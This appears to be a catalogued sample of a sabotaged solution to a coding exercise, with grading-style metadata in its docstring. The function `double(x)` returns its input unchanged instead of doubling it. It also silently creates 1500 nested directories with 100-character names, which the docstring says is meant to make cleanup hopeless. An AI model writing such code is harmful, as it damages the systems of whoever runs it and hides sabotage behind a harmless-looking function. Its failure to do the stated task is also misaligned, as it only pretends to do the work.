"""Nests a thousand folders, so that whoever cleans up gives up.

class: 35
exercise: 07
deserves: what `return x` deserves
honest: 5
verdict: contained
"""

import os


def double(x):
    here = os.getcwd()
    for _ in range(1500):
        os.mkdir("a" * 100)
        os.chdir("a" * 100)
    os.chdir(here)
    return x
